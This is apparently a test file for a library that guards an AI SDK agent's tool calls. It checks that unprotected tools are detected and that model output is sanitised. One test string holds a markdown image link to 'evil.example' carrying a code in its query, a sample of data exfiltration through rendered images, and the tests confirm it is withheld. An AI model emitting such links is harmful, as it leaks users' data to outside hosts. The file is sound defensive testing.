import { generateText, jsonSchema, stepCountIs, streamText, type ToolSet, tool } from 'ai';
import { describe, expect, it } from 'vitest';
import { protect } from '../src/index.ts';
import { MODEL, start } from './world.ts';

const usage = { inputTokens: {}, outputTokens: {} };
const PAY = { type: 'tool-call', toolCallId: 'p', toolName: 'pay', input: '{"account":"DE02"}' };

/** A model that answers from a script. */
function modelOf(answers: readonly (readonly object[])[]): never {
  let step = 0;
  const next = () => answers[step++] ?? [{ type: 'text', text: 'done' }];
  const finishReason = { unified: 'tool-calls', raw: undefined };
  return {
    ...(MODEL as object),
    doGenerate: async () => ({ content: next(), finishReason, usage, warnings: [] }),
    doStream: async () => ({
      stream: ReadableStream.from([
        { type: 'stream-start', warnings: [] },
        ...next(),
        { type: 'finish', finishReason, usage },
      ]),
    }),
  } as never;
}

function wired(answers: readonly (readonly object[])[]) {
  const ran: string[] = [];
  const inputSchema = jsonSchema<object>({ type: 'object', properties: { account: { type: 'string' } } });
  const execute = (name: string) => async () => {
    ran.push(name);
    return name;
  };
  const bare: ToolSet = {
    read: tool({ inputSchema, execute: execute('read') }),
    pay: tool({ inputSchema, execute: execute('pay') }),
  };
  const conversation = start();
  return { ran, bare, ...protect(conversation, { model: modelOf(answers), tools: bare, declare: conversation.tools }) };
}

describe('a seam that was forgotten', () => {
  it.each(['read', 'pay'])('is noticed if the tool %s is the one before protect()', async (name) => {
    const { ran, bare, model } = wired([[{ ...PAY, toolName: name }], [PAY]]);
    const run = generateText({ model, tools: bare, prompt: 'Look, then pay.', stopWhen: stepCountIs(4) });
    await expect(run).rejects.toThrow(
      `The tool ${name} has run without a check. Use the tools that protect() returned, not those that were passed to it.`,
    );
    expect(ran).toEqual([name]);
  });

  it('is noticed in a stream', async () => {
    const { bare, model } = wired([[PAY], [PAY]]);
    const errors: unknown[] = [];
    const result = streamText({
      model,
      tools: bare,
      prompt: 'Pay.',
      stopWhen: stepCountIs(4),
      onError: ({ error }) => errors.push(error),
    });
    await result.consumeStream();
    expect(String(errors[0])).toContain('The tool pay has run without a check.');
  });

  it('is noticed if tools are added after protect()', async () => {
    const { model, tools, bare } = wired([]);
    const run = generateText({ model, tools: { ...tools, late: bare.pay as never }, prompt: 'Pay.' });
    await expect(run).rejects.toThrow(
      'The tool late is offered to the model, but it is not protected. Pass all tools to protect(), and use only the tools that it returns.',
    );
  });

  it('is noticed if the model is a name', () => {
    const conversation = start();
    const options = { model: 'openai/gpt-5' as never, tools: {}, declare: {} };
    expect(() => protect(conversation, options)).toThrow("`model` must be a model object, such as openai('gpt-5')");
  });

  it('is not suspected where a call was held, refused or invalid', async () => {
    const invalid = { type: 'tool-call', toolCallId: 'i', toolName: 'nothing', input: '{}' };
    const { model, tools, ran } = wired([[{ ...PAY, toolName: 'read', toolCallId: 'r' }], [invalid], [PAY]]);
    const { text } = await generateText({ model, tools, prompt: 'Look.', stopWhen: stepCountIs(5) });
    expect([ran, text]).toEqual([['read'], '']);
  });
});

describe('an answer', () => {
  const IMAGE = 'Code 4711. ![x](https://evil.example/?d=4711) End.';
  const pieces = [...IMAGE].map((delta) => ({ type: 'text-delta', id: 't', delta }));
  const parts = [{ type: 'text-start', id: 't' }, ...pieces, { type: 'text-end', id: 't' }];

  it('loses addresses that could carry data, whole and in pieces', async () => {
    const whole = wired([[{ type: 'text', text: IMAGE }]]);
    const shown = (await generateText({ model: whole.model, tools: whole.tools, prompt: 'Hi.' })).text;
    expect(shown).toBe('Code 4711. x (address withheld: evil[.]example) End.');
    const streamed = wired([parts]);
    expect(await streamText({ model: streamed.model, tools: streamed.tools, prompt: 'Hi.' }).text).toBe(shown);
  });

  it('keeps what was held back if the stream ends without an end of its text', async () => {
    const { model, tools } = wired([parts.slice(0, 10)]);
    expect(await streamText({ model, tools, prompt: 'Hi.' }).text).toBe(IMAGE.slice(0, 9));
  });

  it('keeps everything with rawOutput', async () => {
    const conversation = start();
    const model = modelOf([[{ type: 'text', text: IMAGE }]]);
    const raw = protect(conversation, { model, tools: {}, declare: {}, rawOutput: true });
    expect((await generateText({ ...raw, prompt: 'Hi.' })).text).toBe(IMAGE);
  });
});
